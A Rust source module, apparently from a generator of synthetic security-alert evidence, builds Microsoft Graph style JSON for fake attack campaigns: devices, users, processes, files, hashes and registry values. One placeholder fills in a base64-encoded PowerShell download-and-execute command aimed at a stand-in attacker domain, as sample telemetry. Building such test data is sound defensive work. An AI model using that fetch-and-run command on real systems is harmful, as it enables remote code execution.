//! The evidence of one alert of a campaign, as JSON of the shape that API.md 3 describes.
//!
//! What is one thing in the story is one thing in the data: a process has the same id and times
//! in every alert of its device, a file of the attacker the same hashes in the whole campaign,
//! and a component of the system the same hashes everywhere.

use std::time::Duration;

use base64::Engine;
use rand::{Rng, SeedableRng, rngs::StdRng};
use serde_json::{Value, json};

use super::{
    stories::{Account, Image, Item, Process, Story},
    world::{Device, Person, guid, hex},
};
use crate::model::Timestamp;

/// What a campaign's alerts share.
pub(super) struct Cast {
    pub(super) story: &'static Story,
    /// Tells the attacker's files and processes from those of other campaigns.
    pub(super) seed: u64,
    pub(super) domain: String,
    pub(super) address: String,
    pub(super) country: &'static str,
    /// The host that lateral movement goes to.
    pub(super) peer: String,
    /// The number in the names of the attacker's files.
    pub(super) number: u32,
}

impl Cast {
    pub(super) fn new(rng: &mut StdRng, story: &'static Story, peer: String) -> Self {
        const HOSTS: [&str; 6] =
            ["cdn-update", "docs-share", "login-verify", "static-img", "mail-secure", "api-sync"];
        const ZONES: [&str; 3] = ["example.net", "example.org", "example.com"];
        const COUNTRIES: [&str; 8] = ["RU", "NL", "US", "BR", "CN", "DE", "VN", "NG"];
        let net = ["198.51.100", "203.0.113"][rng.random_range(0..2)];
        Self {
            story,
            seed: rng.random(),
            domain: format!(
                "{}.{}",
                HOSTS[rng.random_range(0..HOSTS.len())],
                ZONES[rng.random_range(0..ZONES.len())]
            ),
            address: format!("{net}.{}", rng.random_range(1..255)),
            country: COUNTRIES[rng.random_range(0..COUNTRIES.len())],
            peer,
            number: rng.random_range(1000..10_000),
        }
    }

    /// A number that belongs to a name in this campaign.
    fn hash(&self, name: &str) -> u64 {
        hash(self.seed, name)
    }

    fn process_id(&self, image: &Image) -> u64 {
        // Windows counts process ids in fours. The device is left out on purpose: analysts meet
        // the same id on several devices, and a tree must not join them.
        400 + self.hash(image.name) % 6000 * 4
    }
}

/// FNV-1a, so that the same names give the same values with every toolchain.
fn hash(seed: u64, name: &str) -> u64 {
    name.bytes().fold(seed ^ 0xcbf2_9ce4_8422_2325, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// One alert's part of a campaign.
pub(super) struct Scene<'a> {
    pub(super) rng: &'a mut StdRng,
    pub(super) cast: &'a Cast,
    pub(super) device: &'a Device,
    pub(super) person: &'a Person,
    /// When the story reached this device or person.
    pub(super) began: Timestamp,
    /// When the alert was raised.
    pub(super) created: Timestamp,
    pub(super) resolved: bool,
    /// The sensor stopped it before it did anything.
    pub(super) prevented: bool,
}

impl Scene<'_> {
    /// Makes an item of evidence.
    pub(super) fn item(&mut self, item: &Item) -> Value {
        match item {
            Item::Device => self.device(),
            Item::User => self.evidence(
                "user",
                "unknown",
                &["compromised"],
                json!({"stream": null, "userAccount": self.person.identity}),
            ),
            Item::Mailbox => self.evidence(
                "mailbox",
                "unknown",
                &["attacked"],
                json!({
                    "primaryAddress": self.person.principal(),
                    "displayName": self.person.display,
                    "upn": self.person.principal(),
                    "userAccount": self.person.identity,
                }),
            ),
            Item::Address => self.evidence(
                "ip",
                "suspicious",
                &["source", "attacker"],
                json!({
                    "ipAddress": self.cast.address,
                    "countryLetterCode": self.cast.country,
                    "location": null,
                    "stream": null,
                }),
            ),
            Item::Url(url) => {
                // The tenant's own addresses are where something happened, not what did it.
                let hostile = url.contains("<domain>") || url.contains("<ip>");
                let url = self.fill(url);
                self.evidence("url", if hostile { "malicious" } else { "unknown" }, &[], json!({"url": url}))
            }
            Item::Process(process) => self.process(process),
            Item::File(image, verdict) => {
                let fields = json!({
                    "detectionStatus": self.detection(verdict),
                    "mdeDeviceId": self.device.mde_id,
                    "fileDetails": self.file(image),
                });
                self.evidence("file", verdict, &[], fields)
            }
            Item::RegistryKey(key) => self.evidence(
                "registryKey",
                "unknown",
                &[],
                json!({"registryKey": key, "registryHive": hive(key)}),
            ),
            Item::RegistryValue(key, name, value) => {
                let fields = json!({
                    "mdeDeviceId": self.device.mde_id,
                    "registryKey": key,
                    "registryHive": hive(key),
                    "registryValue": self.fill(value),
                    "registryValueName": name,
                    "registryValueType": if value.len() == 1 { "DWord" } else { "String" },
                });
                self.evidence("registryValue", "suspicious", &["edited"], fields)
            }
            Item::Other(kind, body) => {
                let fields = serde_json::from_str(&self.fill(body)).unwrap_or_default();
                self.evidence(kind.trim_end_matches("Evidence"), "suspicious", &["contextual"], fields)
            }
        }
    }

    /// Puts the properties that every item has before its own.
    fn evidence(&mut self, kind: &str, verdict: &str, roles: &[&str], mut fields: Value) -> Value {
        // Now and then a verdict is a number that the metadata does not declare (QUIRKS.md).
        let verdict = if self.rng.random_ratio(1, 200) { "5" } else { verdict };
        let mut item = json!({
            "@odata.type": format!("#microsoft.graph.security.{kind}Evidence"),
            "createdDateTime": self.created.to_string(),
            "verdict": verdict,
            "remediationStatus": self.remediation(verdict),
            "remediationStatusDetails": null,
            "roles": roles,
            "detailedRoles": [],
            "tags": [],
        });
        if let (Some(item), Some(fields)) = (item.as_object_mut(), fields.as_object_mut()) {
            item.append(fields);
        }
        item
    }

    fn remediation(&mut self, verdict: &str) -> &'static str {
        let choices: &[&str] = match (verdict, self.resolved) {
            ("malicious", _) if self.prevented => &["prevented", "blocked", "remediated"],
            ("malicious", true) => &["remediated", "prevented", "blocked", "notFound", "partiallyRemediated"],
            ("malicious", false) => {
                &["active", "pendingApproval", "unremediated", "running", "none", "prevented"]
            }
            ("suspicious", true) => &["none", "remediated", "declined"],
            ("suspicious", false) => &["none", "none", "active", "pendingApproval"],
            _ => &["none"],
        };
        choices[self.rng.random_range(0..choices.len())]
    }

    fn detection(&self, verdict: &str) -> &'static str {
        if verdict == "malicious" && self.prevented { "prevented" } else { "detected" }
    }

    fn device(&mut self) -> Value {
        let account = &self.person.identity;
        let users = json!([{"accountName": account["accountName"], "domainName": account["domainName"]}]);
        let mut fields = json!({"mdeDeviceId": self.device.mde_id, "loggedOnUsers": users});
        if let (Some(fields), Some(own)) = (fields.as_object_mut(), self.device.properties.as_object()) {
            fields.extend(own.clone());
        }
        let mut item = self.evidence("device", "unknown", &["compromised"], fields);
        item["detailedRoles"] = json!(["PrimaryDevice"]);
        item
    }

    fn process(&mut self, process: &Process) -> Value {
        let fields = json!({
            "processId": self.cast.process_id(process.image),
            "parentProcessId": self.cast.process_id(process.parent),
            "processCommandLine": self.fill(process.command),
            "processCreationDateTime": self.started(process.image).to_string(),
            "parentProcessCreationDateTime": self.started(process.parent).to_string(),
            "detectionStatus": self.detection(process.verdict),
            "mdeDeviceId": self.device.mde_id,
            "imageFile": self.file(process.image),
            "parentProcessImageFile": self.file(process.parent),
            "userAccount": match process.account {
                Account::Person => self.person.identity.clone(),
                Account::System => local_account("SYSTEM", "NT AUTHORITY", Some("S-1-5-18")),
                Account::Root => local_account("root", &self.device.host, None),
            },
        });
        self.evidence("process", process.verdict, &[], fields)
    }

    /// When the process with this image started on this device: in the order of the story, or
    /// hours before it for a parent that the story knows by name only.
    fn started(&self, image: &Image) -> Timestamp {
        let place = self
            .cast
            .story
            .steps
            .iter()
            .flat_map(|step| step.evidence)
            .position(|item| matches!(item, Item::Process(process) if process.image.name == image.name));
        let fraction = Duration::from_nanos(self.cast.hash(image.name) % 10_000_000 * 100);
        if let Some(place) = place {
            return self.began.after(Duration::from_secs(7 * place as u64) + fraction);
        }
        let hours = 1 + self.cast.hash(image.name) % 9;
        self.began.before(Duration::from_secs(3600 * hours) + fraction)
    }

    /// `fileDetails` of an image.
    fn file(&mut self, image: &Image) -> Value {
        let seed = if image.publisher.is_some() { hash(0, image.name) } else { self.cast.hash(image.name) };
        let mut hashes = StdRng::seed_from_u64(seed);
        json!({
            "sha1": hex(&mut hashes, 20),
            "sha256": hex(&mut hashes, 32),
            "md5": hex(&mut hashes, 16),
            "sha256Ac": null,
            "fileName": self.fill(image.name),
            "filePath": self.fill(image.folder),
            "fileSize": image.size,
            "filePublisher": image.publisher,
            "signer": image.publisher,
            "issuer": image.publisher.map(|_| "Code Signing PCA 2011"),
        })
    }

    /// Fills the placeholders of a story's text; brackets around anything else stay.
    pub(super) fn fill(&mut self, text: &str) -> String {
        let mut out = String::with_capacity(text.len());
        let mut rest = text;
        while let Some(open) = rest.find('<') {
            out.push_str(&rest[..open]);
            rest = &rest[open..];
            let value = rest.find('>').and_then(|close| Some((self.value(&rest[1..close])?, close + 1)));
            let (value, length) = value.unwrap_or_else(|| ("<".into(), 1));
            out.push_str(&value);
            rest = &rest[length..];
        }
        out.push_str(rest);
        out
    }

    fn value(&mut self, name: &str) -> Option<String> {
        Some(match name {
            "host" => self.device.host.clone(),
            "account" => self.person.account.clone(),
            "upn" => self.person.principal(),
            "domain" => self.cast.domain.clone(),
            "ip" => self.cast.address.clone(),
            "peer" => self.cast.peer.clone(),
            "n" => self.cast.number.to_string(),
            "guid" => guid(self.rng),
            "b64" => encoded_command(&format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://{}/stage/{}')",
                self.cast.domain, self.cast.number
            )),
            _ => return None,
        })
    }
}

/// Encodes a script as PowerShell's `-EncodedCommand` wants it: base64 over UTF-16.
fn encoded_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn hive(key: &str) -> &'static str {
    if key.starts_with("SYSTEM") { "HKEY_LOCAL_MACHINE" } else { "HKEY_CURRENT_USER" }
}

fn local_account(name: &str, domain: &str, sid: Option<&str>) -> Value {
    json!({
        "accountName": name,
        "domainName": domain,
        "userSid": sid,
        "azureAdUserId": null,
        "userPrincipalName": null,
        "displayName": name,
    })
}
